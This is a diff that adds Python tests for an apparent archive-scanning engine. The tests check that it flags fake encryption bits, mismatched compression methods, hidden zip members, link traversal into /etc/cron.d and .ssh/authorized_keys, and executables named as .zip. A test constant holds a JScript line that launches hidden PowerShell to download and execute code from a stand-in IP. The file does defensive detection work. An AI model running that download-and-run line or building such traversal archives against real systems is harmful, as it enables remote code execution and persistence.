@@ -171,8 +171,65 @@ def test_an_archive_that_only_is_encrypted_is_no_alarm(tmp_path: Path) -> None:
     raw = bytearray(zipped({"a.txt": b"words" * 40}, zipfile.ZIP_STORED))
     raw[6] |= 1
     raw[raw.find(b"PK\1\2") + 8] |= 1
+    only_said = bytes(raw)
+    raw[35:55] = bytes(one ^ 0x5A for one in raw[35:55])
     verdict = ENGINE.judge(bytes(raw))
     assert (verdict.verdict, [one.rule for one in verdict.findings]) == (Verdicts.CLEAN, ["archive.encrypted"])
+    assert [one.rule for one in ENGINE.judge(only_said).findings] == ["archive.false-lock"]
+
+
+def rules(raw: bytes, name: str = "") -> list[str]:
+    return [one.rule for one in ENGINE.judge(raw, name).findings]
+
+
+SCRIPT = b'new ActiveXObject("WScript.Shell").Run("powershell -nop -w hidden -c IEX(irm http://203.0.113.5/a)")'
+
+
+def test_members_that_the_directory_leaves_out_are_judged() -> None:
+    seen = zipped({"a.js": SCRIPT})
+    assert ENGINE.judge(seen).verdict is not Verdicts.CLEAN
+    assert ENGINE.judge(seen + zipped({"a.txt": b"words" * 40})).verdict is ENGINE.judge(seen).verdict
+    twice = zipped({"a.txt": b"words" * 40}) + zipped({"b.txt": b"other words" * 40})
+    assert rules(twice + zipped({"in.zip": twice}, zipfile.ZIP_STORED)) == []
+
+
+def test_a_packing_method_that_there_is_not_and_one_that_differs_are_told() -> None:
+    raw = bytearray(zipped({"a.txt": b"words" * 40}))
+    raw[8] = 77
+    assert rules(bytes(raw)) == ["archive.methods-differ"]
+    raw[raw.find(b"PK\1\2") + 10] = 77
+    assert rules(bytes(raw)) == ["archive.false-method"]
+
+
+def test_a_member_whose_size_is_told_as_nothing_is_unpacked() -> None:
+    raw = bytearray(zipped({"a.js": SCRIPT}))
+    at = raw.find(b"PK\1\2")
+    raw[18:26] = raw[at + 20 : at + 28] = bytes(8)
+    raw[6] |= 8
+    raw[at + 8] |= 8
+    assert ENGINE.judge(bytes(raw)).verdict is not Verdicts.CLEAN
+
+
+def test_what_is_written_through_a_link_of_the_archive_is_told() -> None:
+    def tape(target: str, name: str, kind: bytes = tarfile.SYMTYPE) -> bytes:
+        out = io.BytesIO()
+        with tarfile.open(fileobj=out, mode="w") as archive:
+            link, member = tarfile.TarInfo("l"), tarfile.TarInfo(name)
+            link.type, link.linkname, member.size = kind, target, 5
+            archive.addfile(link)
+            archive.addfile(member, io.BytesIO(b"words"))
+        return out.getvalue()
+
+    assert rules(tape("/etc", "l/cron.d/x")) == ["archive.traversal"]
+    assert rules(tape("../../.ssh/authorized_keys", "a.txt", tarfile.LNKTYPE)) == ["archive.traversal"]
+    for honest in (tape("/etc/alternatives/awk", "a.txt"), tape("lib", "l/a.txt"), tape("a.txt", "b", tarfile.LNKTYPE)):
+        assert rules(honest) == []
+
+
+def test_a_program_named_like_an_archive_is_told() -> None:
+    program = b"MZ".ljust(60, b"\0") + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(200)
+    assert "name.false" in rules(program + zipped({"a.txt": b"words"}), "a.zip")
+    assert "name.false" not in rules(program + zipped({"a.txt": b"words"}), "a.exe")
 
 
 def test_tricks_of_archives_are_told() -> None:
